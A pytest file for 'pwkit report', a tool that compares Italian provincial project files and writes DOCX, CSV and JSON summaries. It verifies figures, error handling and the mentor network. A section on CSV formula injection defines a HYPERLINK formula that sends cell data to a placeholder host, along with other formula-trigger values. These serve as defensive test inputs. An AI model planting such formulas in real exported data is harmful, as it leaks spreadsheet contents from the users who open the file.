"""``pwkit report``: figures recomputed here from the project files, broken and unreadable ones."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
from collections import Counter
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
import yaml
from docx import Document
from docx.oxml.ns import qn

from pwkit.report import collect
from pwkit.report.compare import network, province_key
from pwkit.report.figures import Exchange, ProjectFigures
from tests.conftest import REPO, CliResult, reopened
from tests.render.test_docx import _pdf_text, needs_libreoffice

Cli = Callable[..., CliResult]
EXAMPLES = REPO / "examples"
NAMES = ("provincia-di-lagoverde", "provincia-di-montalto", "provincia-di-valdoria")


# --- an independent reading of the projects ------------------------------------------------


def _front(path: Path) -> dict[str, Any]:
    """The YAML front matter of a section, read with PyYAML (not pwkit's reader)."""
    text = path.read_text(encoding="utf-8")
    _, front, _ = text.split("---\n", 2)
    data = yaml.load(front, Loader=yaml.BaseLoader)  # every scalar as text
    assert isinstance(data, dict)
    return data


def _section(root: Path, prefix: str) -> dict[str, Any]:
    (path,) = (root / "sezioni").glob(f"{prefix}-*.md")
    return _front(path)


def _money(text: str) -> Decimal:
    """«1.234,50 €» or «1.234,5» (Italian, as in the document) → Decimal."""
    cleaned = text.replace("€", "").replace("\xa0", "").replace(" ", "").replace(".", "")
    return Decimal(cleaned.replace(",", "."))


def expected(root: Path) -> dict[str, Any]:
    """The figures of one project, recomputed from its files."""
    progetto = yaml.load((root / "progetto.yaml").read_text(encoding="utf-8"), yaml.BaseLoader)
    with (root / "dati" / "comuni.csv").open(encoding="utf-8-sig", newline="") as handle:
        comuni = list(csv.DictReader(handle))
    servizi = _section(root, "06")["servizi"]
    ruoli = _section(root, "07")["ruoli"]
    economia = _section(root, "10")
    rischi = _section(root, "12")["rischi"]
    return {
        "provincia": progetto["provincia"]["nome"],
        "comuni": len(comuni),
        "abitanti": sum(int(c["popolazione"]) for c in comuni),
        "piccoli": sum(1 for c in comuni if int(c["popolazione"]) < 5000),
        "senza_ufficio": sum(1 for c in comuni if c["ufficio_personale"] == "no"),
        "piccoli_raggiunti": (
            sum(1 for c in comuni if int(c["popolazione"]) < 5000 and c["aderente"] == "si")
            if comuni and comuni[0].get("aderente")
            else None
        ),
        "target": int(_section(root, "01")["comuni_target"]),
        "fte": sum(Decimal(r["fte"]) for r in ruoli),
        "personale": sum(Decimal(r["fte"]) * Decimal(r["costo_annuo_fte"]) for r in ruoli),
        "costi": sum(Decimal(c["importo"]) for c in economia["costi"]),
        "finanziamenti": sum(Decimal(f["importo"]) for f in economia["finanziamenti"]),
        "aree": Counter(s["area"] for s in servizi),
        "rischi": Counter(r["categoria"] for r in rischi),
        "primo_avvio": min(s["avvio"] for s in servizi),
        "strumento": _section(root, "08")["strumento"],
    }


@pytest.fixture(scope="module")
def projects() -> dict[str, dict[str, Any]]:
    return {name: expected(EXAMPLES / name) for name in NAMES}


@pytest.fixture(scope="module")
def report_docx(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from typer.testing import CliRunner

    from pwkit.cli import app

    out = tmp_path_factory.mktemp("report") / "restituzione.docx"
    result = CliRunner().invoke(app, ["report", str(EXAMPLES), "-o", str(out)])
    assert result.exit_code == 0, result.output
    return out


def _table(document: Any, caption: str) -> list[list[str]]:
    """The cells of the table whose caption ends with ``caption``."""
    body = document.element.body
    for index, block in enumerate(body):
        if block.tag == qn("w:p") and _text(block).endswith(caption):
            table = body[index + 1]
            assert table.tag.endswith("}tbl"), caption
            return [
                [
                    "".join(t.text or "" for t in tc.iter(qn("w:t")))
                    for tc in tr.iterchildren(qn("w:tc"))
                ]
                for tr in table.iterchildren(qn("w:tr"))
            ]
    raise AssertionError(f"tabella «{caption}» non trovata")


def _text(element: Any) -> str:
    return "".join(t.text or "" for t in element.iter(qn("w:t")))


def _rows_by_name(rows: list[list[str]]) -> dict[str, list[str]]:
    return {row[0]: row for row in rows[1:]}


# --- the figures ------------------------------------------------------------------------


def test_the_examples_are_clean_project_works(cli: Cli) -> None:
    for name in NAMES:
        out = cli("check", EXAMPLES / name, "--no-cache")
        assert "0 errori" in out.output


def test_comuni_table_equals_the_recomputed_figures(
    report_docx: Path, projects: dict[str, dict[str, Any]]
) -> None:
    rows = _rows_by_name(
        _table(
            Document(str(report_docx)),
            "Comuni del territorio e Comuni a cui si rivolgono i servizi",
        )
    )
    for figures in projects.values():
        row = rows[figures["provincia"]]
        assert int(_money(row[1])) == figures["comuni"]
        assert int(_money(row[2])) == figures["abitanti"]
        assert int(_money(row[3])) == figures["target"]
        assert int(_money(row[5])) == figures["piccoli"]
        assert int(_money(row[7])) == figures["senza_ufficio"]
        reached = figures["piccoli_raggiunti"]
        if reached is None:
            assert row[8] == "–"
        else:
            count, share = row[8].rstrip("%)").split(" (")
            assert int(count) == reached
            expected_share = Decimal(reached) / figures["piccoli"] * 100
            assert _money(share) == expected_share.quantize(Decimal("0.1"))
        share = Decimal(figures["target"]) / figures["comuni"] * 100
        assert _money(row[4].rstrip("%")) == share.quantize(Decimal("0.1"))
    total = rows["Totale"]
    assert int(_money(total[1])) == sum(f["comuni"] for f in projects.values())
    assert int(_money(total[3])) == sum(f["target"] for f in projects.values())
    assert int(_money(total[5])) == sum(f["piccoli"] for f in projects.values())


def test_staff_and_money_table_equals_the_recomputed_sums(
    report_docx: Path, projects: dict[str, dict[str, Any]]
) -> None:
    rows = _rows_by_name(
        _table(Document(str(report_docx)), "Personale, costi e copertura per Provincia")
    )
    for figures in projects.values():
        row = rows[figures["provincia"]]
        assert _money(row[1]) == figures["fte"].quantize(Decimal("0.1"))
        assert _money(row[2]) == figures["personale"].quantize(Decimal("0.01"))
        assert _money(row[3]) == figures["costi"]
        assert _money(row[4]) == figures["finanziamenti"]
        coverage = figures["finanziamenti"] / figures["costi"] * 100
        assert _money(row[5].rstrip("%")) == coverage.quantize(Decimal("0.1"))
    total = rows["Totale"]
    assert _money(total[3]) == sum(f["costi"] for f in projects.values())
    assert _money(total[4]) == sum(f["finanziamenti"] for f in projects.values())
    assert _money(total[1]) == sum(f["fte"] for f in projects.values()).quantize(Decimal("0.1"))


def test_services_matrix_and_risks_equal_the_recomputed_counts(
    report_docx: Path, projects: dict[str, dict[str, Any]]
) -> None:
    document = Document(str(report_docx))
    matrix = _table(document, "Servizi per Provincia e area")
    header, rows = matrix[0], _rows_by_name(matrix)
    legend = _legend(document, "Servizi per Provincia e area")
    for figures in projects.values():
        row = rows[figures["provincia"]]
        shown = {legend[h]: int(v) for h, v in zip(header[1:], row[1:], strict=True) if v != "–"}
        assert shown == {_area_label(a): n for a, n in figures["aree"].items()}
    everything = sum((f["aree"] for f in projects.values()), Counter())
    totals = dict(zip(header[1:], rows["Servizi in totale"][1:], strict=True))
    assert {legend[h]: int(v) for h, v in totals.items()} == {
        _area_label(a): n for a, n in everything.items()
    }

    risks = _rows_by_name(_table(document, "Rischi dichiarati per categoria"))
    declared = sum((f["rischi"] for f in projects.values()), Counter())
    assert sum(int(r[1]) for name, r in risks.items() if name != "Totale") == sum(declared.values())
    assert int(risks["Totale"][1]) == sum(declared.values())
    counts = sorted((int(r[1]) for name, r in risks.items() if name != "Totale"), reverse=True)
    assert counts == sorted(declared.values(), reverse=True)


def _area_label(area: str) -> str:
    from pwkit.pack.registry import bundled_pack
    from pwkit.validate.manifest import load_manifest

    return load_manifest(bundled_pack()).label("Area", area)


def _legend(document: Any, caption: str) -> dict[str, str]:
    """Short header → full area name, from the legend paragraph after the table."""
    body = document.element.body
    for index, block in enumerate(body):
        if block.tag == qn("w:p") and _text(block).endswith(caption):
            text = "".join(t.text or "" for t in body[index + 2].iter(qn("w:t")))
            assert text.startswith("Legenda: ")
            pairs = text.removeprefix("Legenda: ").rstrip(".").split("; ")
            return dict(pair.split(" = ", 1) for pair in pairs)
    raise AssertionError(caption)


def test_csv_has_one_row_per_project_with_the_same_figures(
    cli: Cli, tmp_path: Path, projects: dict[str, dict[str, Any]]
) -> None:
    out = tmp_path / "restituzione.csv"
    cli("report", *(EXAMPLES / n for n in NAMES), "-o", out)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert len(rows) == 3
    by_name = {r["provincia"]: r for r in rows}
    for figures in projects.values():
        row = by_name[figures["provincia"]]
        assert row["esito"] == "valido"
        assert int(row["comuni_territorio"]) == figures["comuni"]
        assert _money(row["costi_totali"]) == figures["costi"]
        assert _money(row["fte"]) == figures["fte"]
        assert row["primo_avvio"] == figures["primo_avvio"]
        assert row["strumento_giuridico"] == figures["strumento"]
        reached = figures["piccoli_raggiunti"]
        assert row["piccoli_comuni_aderenti"] == ("" if reached is None else str(reached))
        for area, count in figures["aree"].items():
            assert int(row[f"servizi_{area}"]) == count


def test_json_describes_its_columns_and_the_mentor_network(cli: Cli, tmp_path: Path) -> None:
    out = tmp_path / "restituzione.json"
    cli("report", EXAMPLES, "-o", out)
    data = json.loads(out.read_text(encoding="utf-8"))
    assert len(data["progetti"]) == 3
    for entry in data["progetti"]:
        assert set(data["colonne"]) <= set(entry)
    mentors = {(m["mentor"], m["affiancata"]) for m in data["rete"]["mentor"]}
    assert ("Lagoverde", "Montalto") in mentors
    link = next(m for m in data["rete"]["mentor"] if m["affiancata"] == "Montalto")
    assert sorted(link["dichiarato_da"]) == ["Lagoverde", "Montalto"]


# --- broken and unreadable projects ---------------------------------------------------------


@pytest.fixture
def mixed(tmp_path: Path) -> Path:
    """A folder of projects: one valid, one with errors, one unreadable, one half-made."""
    folder = tmp_path / "progetti"
    shutil.copytree(EXAMPLES / "provincia-di-valdoria", folder / "valdoria")
    broken = folder / "rotto"
    shutil.copytree(EXAMPLES / "provincia-di-montalto", broken)
    section = next((broken / "sezioni").glob("07-*.md"))
    section.write_text(section.read_text(encoding="utf-8").replace("fte:", "fteee:", 1))
    unknown = folder / "modello-ignoto"
    shutil.copytree(EXAMPLES / "provincia-di-lagoverde", unknown)
    progetto = unknown / "progetto.yaml"
    progetto.write_text(
        progetto.read_text(encoding="utf-8").replace(
            "province-comuni-personale@", "modello-sconosciuto@", 1
        )
    )
    (folder / "a-meta" / "sezioni").mkdir(parents=True)
    (folder / "non-un-progetto").mkdir()
    return folder


def test_broken_and_unreadable_projects_are_listed_with_their_reason(
    cli: Cli, mixed: Path, tmp_path: Path
) -> None:
    out = tmp_path / "restituzione.docx"
    result = cli("report", mixed, "-o", out)
    assert "con errori o non leggibili" in result.output
    document = Document(str(out))
    status = _rows_by_name(_table(document, "Stato dei progetti"))
    assert status["Valdoria"][1] == "senza errori"
    assert status["Montalto"][1].startswith("con errori (")
    lost = _rows_by_name(_table(document, "Cartelle che non è stato possibile leggere"))
    assert set(lost) == {str(mixed / "a-meta"), str(mixed / "modello-ignoto")}
    assert "manca progetto.yaml" in lost[str(mixed / "a-meta")][1]
    assert "modello-sconosciuto" in lost[str(mixed / "modello-ignoto")][1]
    montalto = _rows_by_name(_table(document, "Personale, costi e copertura per Provincia"))
    assert montalto["Montalto"][1] == "–"  # its staff section is not valid: no figure


def test_an_internal_error_in_one_project_does_not_stop_the_report(
    cli: Cli, mixed: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real = collect.figures_of

    def fragile(result: Any, folder: str) -> ProjectFigures:
        if folder.endswith("rotto"):
            raise RuntimeError("guasto")
        return real(result, folder)

    monkeypatch.setattr(collect, "figures_of", fragile)
    out = tmp_path / "restituzione.csv"
    cli("report", mixed, "-o", out)
    rows = {
        r["cartella"]: r
        for r in csv.DictReader(io.StringIO(out.read_text("utf-8-sig")), delimiter=";")
    }
    assert rows[str(mixed / "rotto")]["esito"] == "illeggibile"
    assert "errore interno" in rows[str(mixed / "rotto")]["motivo"]
    assert rows[str(mixed / "valdoria")]["esito"] == "valido"


def test_usage_errors(cli: Cli, tmp_path: Path) -> None:
    out = cli("report", EXAMPLES, "-o", tmp_path / "resoconto.txt", code=2)
    assert "Non so scrivere un resoconto" in out.output and ".docx" in out.output
    existing = tmp_path / "r.csv"
    existing.write_text("mio")
    out = cli("report", EXAMPLES, "-o", existing, code=2)
    assert "esiste già" in out.output and existing.read_text() == "mio"
    empty = tmp_path / "vuota"
    empty.mkdir()
    out = cli("report", empty, tmp_path / "manca", code=2)
    assert "Nessun Project Work da confrontare" in out.output
    assert "la cartella non esiste" in out.output


def test_without_output_the_comparison_is_printed(cli: Cli) -> None:
    out = cli("report", EXAMPLES)
    for name in ("Lagoverde", "Montalto", "Valdoria"):
        assert name in out.stdout
    assert "3 progetti letti (0 con errori)" in out.stdout


# --- the network --------------------------------------------------------------------------


def _figures(name: str, **changes: Any) -> ProjectFigures:
    base: dict[str, Any] = {
        "folder": name.lower(), "provincia": name, "sigla": None, "regione": None,
        "titolo": None, "versione": None, "stato_documento": None, "errors": 0,
        "warnings": 0, "sections_complete": 16, "sections_total": 16,
        "comuni_territorio": 0, "popolazione": 0, "comuni_piccoli": 0,
        "comuni_senza_ufficio": 0, "comuni_target": None, "comuni_aderenti": None,
        "piccoli_aderenti": None, "servizi": (), "fte": None,
        "costo_personale_annuo": None, "costi_totali": None, "finanziamenti_totali": None,
        "primo_avvio": None, "milestones": (), "kpi_totali": None, "kpi_per_area": (),
        "rischi_totali": None, "rischi_per_categoria": (), "strumento": None, "mentor": None,
        "partner": (), "scambi": (),
    }  # fmt: skip
    base.update(changes)
    return ProjectFigures(**base)


def test_network_merges_what_both_sides_declare() -> None:
    result = network(
        [
            _figures("Alta", mentor="provincia di  BASSA", partner=("Centro",)),
            _figures("Bassa", scambi=(Exchange("Alta", "beneficiaria", "affiancamento"),)),
            _figures("Centro", scambi=(Exchange("Alta", "pari", "confronto"),
                                       Exchange("Bassa", "pari", "x"))),
            _figures("Dora", scambi=(Exchange("Esterna", "mentor", "visita"),)),
        ]
    )  # fmt: skip
    links = {(m.mentor, m.mentee): m.declared_by for m in result.mentors}
    assert links == {("Bassa", "Alta"): ("Alta", "Bassa"), ("Esterna", "Dora"): ("Dora",)}
    peers = {(p.first, p.second): p.declared_by for p in result.peers}
    assert peers == {("Alta", "Centro"): ("Alta", "Centro"), ("Bassa", "Centro"): ("Centro",)}
    assert result.mentees_of() == {"Bassa": ["Alta"], "Esterna": ["Dora"]}


def test_province_names_compare_loosely() -> None:
    assert province_key("Provincia di Forlì-Cesena") == province_key("forli cesena")
    assert province_key("  Monza e della  Brianza ") == province_key("MONZA E DELLA BRIANZA")


def test_province_names_compare_without_the_kind_of_body() -> None:
    assert province_key("Città metropolitana di Bari") == province_key("Bari")
    assert province_key("Libero consorzio comunale di Trapani") == province_key("Trapani")


# --- real parts -------------------------------------------------------------------------


def test_the_report_passes_openxml_audit(report_docx: Path) -> None:
    openxml_audit = pytest.importorskip("openxml_audit")
    validator = openxml_audit.OpenXmlValidator(file_format=openxml_audit.FileFormat.MICROSOFT_365)
    result = validator.validate(str(report_docx))
    assert [(e.error_type, e.description, e.part_uri, e.path) for e in result.errors] == []


@pytest.mark.libreoffice
@needs_libreoffice
def test_libreoffice_converts_the_report(report_docx: Path, tmp_path: Path) -> None:
    text = _pdf_text(report_docx, tmp_path)
    for expected_text in ("Restituzione dei Project Work", "Provincia di Lagoverde",
                          "Provincia di Montalto", "Provincia di Valdoria",
                          "Schema della rete dei mentor"):  # fmt: skip
        assert expected_text in text


def test_every_column_is_documented_in_the_readme() -> None:
    from pwkit.pack.registry import bundled_pack
    from pwkit.report.tabular import descriptions
    from pwkit.validate.manifest import load_manifest

    readme = (REPO / "README.md").read_text(encoding="utf-8")
    for name, description in descriptions(load_manifest(bundled_pack())).items():
        documented = name if not name.startswith("servizi_") else "servizi_<area>"
        assert f"`{documented}`" in readme, name
        if not name.startswith("servizi_"):
            assert description in readme, name


def test_a_terminal_sees_a_progress_bar(monkeypatch: pytest.MonkeyPatch) -> None:
    from rich.console import Console

    from pwkit import console
    from pwkit.report.collect import Target

    screen = io.StringIO()
    monkeypatch.setattr(console, "_err", Console(file=screen, force_terminal=True, width=100))
    with console.report_progress() as progress:
        assert progress is not None
        progress(2, None)
        progress(2, Target(EXAMPLES / "provincia-di-valdoria", "valdoria"))
    assert "Lettura dei progetti" in screen.getvalue()


def test_without_a_terminal_there_is_no_progress_bar() -> None:
    from pwkit import console

    with console.report_progress() as progress:
        assert progress is None


@pytest.fixture(scope="module")
def eight(tmp_path_factory: pytest.TempPathFactory) -> list[collect.Target]:
    folder = tmp_path_factory.mktemp("otto")
    for index in range(collect.PARALLEL_FROM):
        source = EXAMPLES / NAMES[index % 3]
        shutil.copytree(source, folder / f"{index}-{source.name}")
    targets, unreadable = collect.find_targets([folder])
    assert len(targets) == collect.PARALLEL_FROM and not unreadable
    return targets


def test_parallel_reading_gives_the_same_figures_in_the_same_order(
    eight: list[collect.Target],
) -> None:
    alone = list(collect.read_projects(eight, workers=1))
    together = list(collect.read_projects(eight, workers=2))
    assert together == alone
    assert all(isinstance(r, ProjectFigures) and r.valid for r in together)


_MAIN = os.getpid()


def _dying(target: collect.Target, key: str | None) -> Any:
    """``read_project`` in a worker that is killed (out of memory, by the system…)."""
    if os.getpid() != _MAIN:
        os._exit(9)
    return _REAL_READ(target, key)


_REAL_READ = collect.read_project


def test_a_worker_that_dies_does_not_lose_projects(
    eight: list[collect.Target], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(collect, "read_project", _dying)
    done: list[str] = []
    results = list(collect.read_projects(eight, lambda t: done.append(t.label), workers=2))
    assert [r.folder for r in results] == [t.label for t in eight]
    assert all(isinstance(r, ProjectFigures) for r in results)
    assert sorted(done) == sorted(t.label for t in eight)


# --- the CSV opened in Excel: no formula from a project's text (#15) ------------------------

FORMULA = '=HYPERLINK("http://esempio.invalid/?"&A1;"clic")'


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))


def test_csv_text_that_excel_would_run_as_a_formula_is_neutralised() -> None:
    from pwkit.report.compare import Comparison
    from pwkit.report.tabular import to_csv

    hostile = _figures(
        FORMULA, folder="-2+3", sigla="+1", regione="@SUM(A1)", strumento="\tcmd",
        mentor="\r=1", versione="1.0", costi_totali=Decimal("-1234.5"), fte=Decimal("-2"),
        costo_personale_annuo=Decimal("37500"),
    )  # fmt: skip
    text = to_csv(Comparison.of([hostile, _figures("Valdoria")]))
    rows = _csv_rows(text)
    row = next(r for r in rows if r["cartella"] != "valdoria")
    assert row["provincia"] == "'" + FORMULA
    assert row["cartella"] == "'-2+3"
    assert row["sigla"] == "'+1"
    assert row["regione"] == "'@SUM(A1)"
    assert row["strumento_giuridico"] == "'\tcmd"
    assert row["provincia_mentor"] == "'\r=1"
    assert row["versione"] == "1.0"
    # Numbers stay numbers: unquoted, negative, decimal comma.
    line = text.split("\r\n")[1 + rows.index(row)]
    assert ";-1234,50;" in line and ";-2;" in line and ";37500;" in line
    assert row["costi_totali"] == "-1234,50"
    # Neutralised cells are quoted, so no separator of any locale can split them.
    assert '"\'@SUM(A1)"' in line and '"\'+1"' in line
    assert next(r for r in rows if r["cartella"] == "valdoria")["provincia"] == "Valdoria"


def test_report_of_a_provincia_named_like_a_formula(cli: Cli, tmp_path: Path) -> None:
    root = tmp_path / "valdoria"
    shutil.copytree(EXAMPLES / "provincia-di-valdoria", root)
    progetto = root / "progetto.yaml"
    text = progetto.read_text(encoding="utf-8")
    quoted = FORMULA.replace('"', '\\"')
    progetto.write_text(text.replace("  nome: Valdoria", f'  nome: "{quoted}"', 1), "utf-8")
    out = cli("report", root, "-o", tmp_path / "r.csv")
    assert "(1 progetto)." in out.stdout
    cli("report", root, "-o", tmp_path / "r.json")
    [row] = _csv_rows((tmp_path / "r.csv").read_text(encoding="utf-8"))
    assert row["provincia"] == "'" + FORMULA
    data = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))
    assert data["progetti"][0]["provincia"] == FORMULA  # JSON is data, not a spreadsheet


def test_a_fresh_project_counts_its_comuni_from_their_codes(cli: Cli, tmp_path: Path) -> None:
    """Codes and names only (population and staff still empty): 41 Comuni, not «–/0»."""
    root = tmp_path / "bari"
    cli("init", root, "--provincia", "Bari", "--no-input")
    assert "/41" in " ".join(cli("report", root).stdout.split())
    out = tmp_path / "resoconto.json"
    cli("report", root, "-o", out)
    [entry] = json.loads(out.read_text(encoding="utf-8"))["progetti"]
    assert entry["comuni_territorio"] == 41
    assert entry["popolazione"] is None  # not filled yet: no figure rather than a wrong one
    assert entry["comuni_piccoli"] is None


# --- the template numbers the sections the report refers to -------------------------------


def _renumbered(model: str, number: int) -> Any:
    from pwkit.pack.registry import bundled_pack
    from pwkit.validate.manifest import load_manifest

    manifest = load_manifest(bundled_pack())
    sections = [
        s.model_copy(update={"number": number}) if s.model == model else s
        for s in manifest.sections
    ]
    return manifest.model_copy(update={"sections": sections})


def test_a_template_that_renumbers_a_section_changes_the_reports_references() -> None:
    from pwkit.render.docx.report import build_report
    from pwkit.report.compare import Comparison
    from pwkit.report.tabular import to_json

    comparison = Comparison.of([_figures("Valdoria")])
    manifest = _renumbered("CatalogoServiziTutele", 26)  # 1.1.0: extends CatalogoServizi
    text = "\n".join(p.text for p in reopened(build_report(comparison, manifest)).paragraphs)
    assert "tra i servizi della sezione 26." in text
    assert "sezione 6" not in text
    assert "sezione 1." in text  # the others keep their numbers
    columns = to_json(comparison, manifest)["colonne"]
    assert columns["servizi"] == "Servizi del catalogo (sezione 26)."
    assert columns["comuni_target"] == "Comuni a cui si rivolgono i servizi (sezione 1)."
